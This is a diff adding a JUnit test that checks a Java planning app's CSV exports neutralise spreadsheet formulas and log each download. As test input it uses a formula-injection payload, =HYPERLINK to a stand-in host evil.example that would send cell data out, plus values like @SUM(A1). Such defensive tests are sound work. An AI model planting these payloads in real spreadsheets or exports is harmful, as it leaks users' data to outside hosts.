@@ -13,6 +13,9 @@ import cn.tongxin.graph.GraphTest;
 import cn.tongxin.graph.TestGraph;
 import cn.tongxin.graph.TongxinHttp;
 import cn.tongxin.graph.system.CypherFile;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.apache.commons.csv.CSVRecord;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -259,6 +262,49 @@ class PlanningTests {
 		assertThat(viewersCsv).as("a viewer of town A, within it").doesNotContain("乙镇").endsWith(",合计,4,1,3,25.0\r\n");
 		assertThat(this.admin.download("/api/export/coverage?format=pdf").statusCode()).isEqualTo(400);
 		assertThat(this.admin.download("/api/export/planning-worksheet?townCode=610322999").statusCode()).isEqualTo(400);
+	}
+
+	/**
+	 * Names that a spreadsheet would run as formulas reach the CSV files neutralised (a leading apostrophe), still
+	 * readable; numbers stay numbers. Each download is in the audit trail, with who took which file.
+	 */
+	@Test
+	void writesFormulasAsTextAndAuditsEveryDownload() throws Exception {
+		String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"甲镇\")";
+		this.admin.importCsv("towns", "code,name\n%s,\"%s\"\n".formatted(TOWN_A, link.replace("\"", "\"\"")));
+		this.admin.importCsv("villages", """
+				code,name,town_code,kind,households,latitude,longitude
+				%s,@SUM(A1),%s,VILLAGE,,34.00,107.00
+				%s,-2+3,%s,COMMUNITY,800,34.20,107.00
+				""".formatted(V1, TOWN_A, V2, TOWN_A));
+		TongxinHttp viewer = this.admin.createUser("a.viewer", "VIEWER", false, List.of(TOWN_A));
+
+		List<CSVRecord> coverage = csv(viewer.download("/api/export/coverage?format=csv").body());
+		List<CSVRecord> worksheet = csv(this.admin
+			.download("/api/export/planning-worksheet?townCode=" + TOWN_A + "&suggestions=2&format=csv")
+			.body());
+
+		assertThat(coverage.get(1).values()).containsExactly(TOWN_A, "'" + link, "4", "1", "3", "25.0");
+		assertThat(worksheet).extracting(row -> row.get(1)).contains("'@SUM(A1)", "'-2+3");
+		for (CSVRecord row : coverage.subList(1, coverage.size())) {
+			assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotMatch("[=+\\-@\t\r].*"));
+		}
+		for (CSVRecord row : worksheet.subList(1, worksheet.size())) {
+			assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotMatch("[=+\\-@\t\r].*"));
+		}
+		var log = this.admin.graphQl()
+			.document("{ auditLog(filter: {operation: \"export\"}) { edges { node { username kind keys at } } } }")
+			.executeSync();
+		assertThat(values(log, "auditLog.edges[?(@.node.kind == 'coverage')].node.username")).containsExactly("a.viewer");
+		assertThat(values(log, "auditLog.edges[?(@.node.kind == 'planning-worksheet')].node.username"))
+			.containsExactly("admin");
+		assertThat(values(log, "auditLog.edges[?(@.node.kind == 'planning-worksheet')].node.keys[*]"))
+			.containsExactly(TOWN_A);
+	}
+
+	private static List<CSVRecord> csv(byte[] file) throws Exception {
+		String text = new String(file, StandardCharsets.UTF_8).replaceFirst("^\uFEFF", "");
+		return CSVParser.parse(text, CSVFormat.RFC4180).getRecords();
 	}
 
 	/** Every operator of a plan with its details, as one line each. */
